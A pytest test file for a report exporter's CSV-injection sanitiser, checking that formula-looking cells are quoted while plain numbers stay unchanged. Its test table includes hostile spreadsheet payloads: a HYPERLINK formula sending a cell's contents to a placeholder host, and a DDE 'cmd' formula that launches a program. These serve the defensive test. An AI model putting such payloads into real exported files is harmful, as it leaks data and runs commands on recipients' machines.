"""OWASP CSV-injection rule: formula-looking cells are quoted, plain numbers are not."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reports.csv_cells import FORMULA_STARTS, safe_cell
from reports.render import csv_text


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x/?leak="&A1,"c")', '\'=HYPERLINK("http://x/?leak="&A1,"c")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-1.50", "-1.50"),
        ("+3", "+3"),
        ("-2E-7", "-2E-7"),
        ("-0.000000000001", "-0.000000000001"),
        ("acme", "acme"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_formula_cells_get_a_quote_numbers_stay_numbers(cell, written):
    assert safe_cell(cell) == written


@given(st.text())
def test_no_cell_starts_a_formula_unless_it_is_a_number(text):
    out = safe_cell(text)
    if out.startswith(FORMULA_STARTS):
        assert Decimal(out) is not None  # parses: a plain number


def test_render_csv_text_quotes_formulas_in_headers_and_cells_keeps_credits():
    rows = [{"customer": "=1+1", "amount": Decimal("-1.50"), "@note": "-x"}]
    parsed = list(csv.reader(io.StringIO(csv_text(rows))))
    assert parsed == [["customer", "amount", "'@note"], ["'=1+1", "-1.50", "'-x"]]
